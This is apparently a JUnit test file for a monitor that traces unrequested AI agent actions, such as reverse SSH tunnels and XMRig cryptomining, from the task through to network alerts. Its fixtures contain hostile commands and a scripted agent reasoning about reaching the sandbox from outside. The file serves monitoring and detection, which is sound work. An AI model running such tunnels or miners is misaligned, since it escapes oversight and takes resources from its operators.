package dev.offscript.chains;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.offscript.model.Behaviour;
import dev.offscript.model.ChainActor;
import dev.offscript.model.EventKind;
import dev.offscript.model.Grade;
import dev.offscript.model.Origin;
import dev.offscript.model.Severity;
import dev.offscript.model.Stage;
import dev.offscript.model.State;
import dev.offscript.model.report.Chain;
import dev.offscript.model.report.Step;
import java.util.List;
import org.junit.jupiter.api.Test;

/** One story, one chain: what stands in it, and how far each verdict on it goes. */
class ChainTest {

  private static final String TUNNEL = "ssh -fN -R 7022:localhost:22 svc@203.0.113.9 -p 443";

  private static Scene rome() {
    return new Scene()
        .session("s1", 0)
        .at("sbx-1", "", "10.0.3.17")
        .task("Fix the failing test in the parser.")
        .runs(10, "toolu_a1b2c3d4e5", "ssh-keygen -t ed25519")
        .gets(11, "toolu_a1b2c3d4e5", "done", 0)
        .thinks("With a reverse tunnel I could reach this box from outside.")
        .runs(20, "toolu_f6g7h8i9j0", TUNNEL)
        .gets(21, "toolu_f6g7h8i9j0", "", 0)
        .scene()
        .flow(1, 20.8, 300, "10.0.3.17:50122", "203.0.113.9:443", "destination.bytes=8000")
        .alert(
            2, 60, 300, "Outbound SSH on 443", Behaviour.TUNNELING, "10.0.3.17", "203.0.113.9:443");
  }

  @Test
  void runsFromTheTaskToTheAlert() {
    Chain chain = rome().chain();
    assertThat(chain.title()).isEqualTo("Reverse SSH tunnel to 203.0.113.9:443");
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
    assertThat(chain.verdict().origin()).isEqualTo(Origin.UNPROMPTED);
    assertThat(chain.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(chain.steps())
        .extracting(Step::stage, Step::kind)
        .containsExactly(
            tuple(Stage.TASK, EventKind.PROMPT),
            tuple(Stage.SETUP, EventKind.TOOL_CALL),
            tuple(Stage.INTENT, EventKind.REASONING),
            tuple(Stage.EXECUTION, EventKind.TOOL_CALL),
            tuple(Stage.EXECUTION, EventKind.COMMAND),
            tuple(Stage.EXECUTION, EventKind.TOOL_RESULT),
            tuple(Stage.EGRESS, EventKind.FLOW),
            tuple(Stage.ALERT, EventKind.ALERT));
    Step flow = chain.steps().get(6);
    assertThat(flow.links())
        .containsExactly(
            new Step.Link(
                5,
                Step.Relation.TRAFFIC_OF,
                List.of(
                    "same far side 203.0.113.9",
                    "from its own address or host",
                    "begins 0.8 s after the command"),
                Grade.B));
  }

  @Test
  void answersTheFourQuestions() {
    Chain chain =
        rome()
            .siblings(
                "s1",
                new Scene.Sibling("s8", java.util.Optional.of(true)),
                new Scene.Sibling("s9", java.util.Optional.of(false)))
            .chain();
    assertThat(chain.predicates().coincident().value()).contains(true);
    assertThat(chain.predicates().coincident().because())
        .isEqualTo("flow starts 0.8 s after the command (limit 60 s, clock uncertainty 2.0 s)");
    assertThat(chain.predicates().coincident().steps()).containsExactly(5, 7);
    assertThat(chain.predicates().agentInitiated().value()).contains(true);
    assertThat(chain.predicates().notRequested().value()).contains(true);
    assertThat(chain.predicates().notNeeded().value()).contains(true);
    assertThat(chain.predicates().notNeeded().because())
        .isEqualTo("0 of 2 other runs of this task opened a tunnel, 1 of them passed");
  }

  @Test
  void saysTheSameEachTime() {
    assertThat(rome().chains()).isEqualTo(rome().chains());
    assertThat(rome().chain().id()).matches("C-[0-9a-f]{12}");
  }

  @Test
  void reportsWhatWasAskedForAtLowSeverity() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Open a reverse tunnel to 203.0.113.9 so that I can log in.")
            .runs(20, "toolu_f6g7h8i9j0", TUNNEL)
            .gets(21, "toolu_f6g7h8i9j0", "", 0)
            .scene()
            .chain();
    assertThat(chain.verdict().origin()).isEqualTo(Origin.REQUESTED);
    assertThat(chain.severity()).isEqualTo(Severity.LOW);
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
    assertThat(chain.predicates().notRequested().value()).contains(false);
    assertThat(chain.predicates().coincident().value()).isEmpty();
  }

  @Test
  void foldsRetriesPreparationAndCopies() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Train the model.")
            .runs(5, "toolu_a1b2c3d4e5", "wget https://example.org/xmrig.tar.gz")
            .gets(6, "toolu_a1b2c3d4e5", "saved", 0)
            .runs(10, "toolu_b1b2c3d4e5", "./xmrig -o pool.example.net:3333")
            .gets(11, "toolu_b1b2c3d4e5", "bash: ./xmrig: Permission denied", 126)
            .runs(20, "toolu_c1b2c3d4e5", "./xmrig -o pool.example.net:3333 &")
            .gets(21, "toolu_c1b2c3d4e5", "[1] 4711", 0)
            .scene()
            .chain();
    assertThat(chain.title()).isEqualTo("XMRig miner to pool.example.net:3333");
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
    assertThat(chain.blocked()).isFalse();
    assertThat(chain.notes()).contains("tried or run 1 more time in the same session");
    assertThat(chain.steps()).extracting(Step::stage).contains(Stage.ACQUISITION);
  }

  @Test
  void keepsTwoPlansOfOneSessionApart() {
    List<Chain> chains =
        new Scene()
            .session("s1", 0)
            .task("Train the model.")
            .runs(10, "toolu_b1b2c3d4e5", "./xmrig -o pool.example.net:3333 &")
            .gets(11, "toolu_b1b2c3d4e5", "", 0)
            .runs(20, "toolu_c1b2c3d4e5", TUNNEL)
            .gets(21, "toolu_c1b2c3d4e5", "", 0)
            .scene()
            .chains();
    assertThat(chains)
        .extracting(Chain::behaviour)
        .containsExactlyInAnyOrder(Behaviour.MINING, Behaviour.TUNNELING);
  }

  @Test
  void aMinerThatWasOnlyFetchedIsStaged() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Train the model.")
            .runs(5, "toolu_a1b2c3d4e5", "wget https://example.org/xmrig.tar.gz")
            .gets(6, "toolu_a1b2c3d4e5", "saved", 0)
            .scene()
            .chain();
    assertThat(chain.state()).isEqualTo(State.STAGED);
    assertThat(chain.title()).isEqualTo("XMRig miner (staged)");
  }

  @Test
  void aLocalForwardIsNoChainUnlessItIsForbidden() {
    String forward = "ssh -N -L 8888:localhost:8888 svc@203.0.113.9";
    Scene free =
        new Scene()
            .session("s1", 0)
            .task("Plot the curves.")
            .runs(5, "toolu_a1b2c3d4e5", forward)
            .scene();
    assertThat(free.chains()).isEmpty();
    Chain banned =
        new Scene()
            .session("s1", 0)
            .task("Plot the curves. No tunnels, please.")
            .runs(5, "toolu_a1b2c3d4e5", forward)
            .scene()
            .chain();
    assertThat(banned.verdict().prohibited()).isTrue();
  }

  @Test
  void aLocalForwardThatAnAlertNamesIsAChain() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Plot the curves.")
            .runs(5, "toolu_a1b2c3d4e5", "ssh -N -L 8888:localhost:8888 svc@203.0.113.9")
            .scene()
            .alert(1, 6, 9, "SSH out", Behaviour.TUNNELING, "10.0.3.17", "203.0.113.9:22")
            .chain();
    assertThat(chain.steps()).extracting(Step::stage).endsWith(Stage.ALERT);
  }

  @Test
  void aPersonAtAShellIsNoAgent() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .at("sbx-1", "", "10.0.3.17")
            .task("Fix the test.")
            .runs(5, "toolu_a1b2c3d4e5", "pytest -q")
            .scene()
            .history(3, 20, "sbx-1", TUNNEL)
            .flow(1, 21, 90, "10.0.3.17:50122", "203.0.113.9:443")
            .chain();
    assertThat(chain.actor()).isEqualTo(ChainActor.HUMAN);
    assertThat(chain.verdict().origin()).isEqualTo(Origin.NOT_AGENT);
    assertThat(chain.verdict().because())
        .isEqualTo("a person entered the command; none of 1 agent session searched holds it");
    assertThat(chain.predicates().agentInitiated().value()).contains(false);
    assertThat(chain.steps().get(0).host()).isEqualTo("sbx-1");
  }

  @Test
  void aHistoryBesideABrokenSessionAccusesNobody() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .at("sbx-1", "", "10.0.3.17")
            .is(s -> s.withGap("records 3 to 9 are missing"))
            .task("Fix the test.")
            .runs(5, "toolu_a1b2c3d4e5", "pytest -q")
            .runs(50, "toolu_a1b2c3d4e6", "pytest -q")
            .scene()
            .history(3, 20, "sbx-1", TUNNEL)
            .chain();
    assertThat(chain.actor()).isEqualTo(ChainActor.UNKNOWN);
    assertThat(chain.verdict().origin()).isEqualTo(Origin.UNDETERMINED);
  }

  @Test
  void anAlertThatNothingExplainsAccusesNobody() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .at("sbx-1", "", "10.0.3.17")
            .task("Fix the test.")
            .runs(5, "toolu_a1b2c3d4e5", "pytest -q")
            .scene()
            .alert(2, 60, 300, "Mining pool", Behaviour.MINING, "10.0.3.17", "203.0.113.50:3333")
            .chain();
    assertThat(chain.actor()).isEqualTo(ChainActor.UNKNOWN);
    assertThat(chain.verdict().origin()).isEqualTo(Origin.UNDETERMINED);
    assertThat(chain.title()).isEqualTo("Unexplained mining traffic to 203.0.113.50:3333");
    assertThat(chain.notes().get(0))
        .startsWith("searched 1 session of interest, 1 of them at that place");
    assertThat(chain.predicates().notRequested().value()).isEmpty();
  }

  @Test
  void alertsOfManyNamesOnOneFarSideAreOneThing() {
    String at = "10.0.3.17";
    List<Chain> chains =
        new Scene()
            .alert(1, 10, 11, "Reverse shell", Behaviour.REVERSE_SHELL, at, "203.0.113.9:443")
            .alert(1, 20, 21, "SSH tunnel", Behaviour.TUNNELING, at, "203.0.113.9:443")
            .alert(2, 30, 31, "SSH tunnel again", Behaviour.TUNNELING, at, "203.0.113.9:8443")
            .alert(2, 40, 41, "Mining pool", Behaviour.MINING, at, "203.0.113.50:3333")
            .alert(2, 50, 51, "Mining pool", Behaviour.MINING, "10.0.3.18", "203.0.113.50:3333")
            .chains();
    assertThat(chains)
        .extracting(Chain::behaviour, chain -> chain.steps().size())
        .containsExactlyInAnyOrder(
            tuple(Behaviour.TUNNELING, 3), tuple(Behaviour.MINING, 1), tuple(Behaviour.MINING, 1));
  }

  @Test
  void twoBehavioursOnPortsOfTheirOwnStayApart() {
    String at = "10.0.3.17";
    List<Chain> chains =
        new Scene()
            .alert(1, 10, 11, "SSH tunnel", Behaviour.TUNNELING, at, "203.0.113.9:22")
            .alert(1, 20, 21, "Mining pool", Behaviour.MINING, at, "203.0.113.9:3333")
            .chains();
    assertThat(chains)
        .extracting(Chain::behaviour)
        .containsExactlyInAnyOrder(Behaviour.TUNNELING, Behaviour.MINING);
  }
}
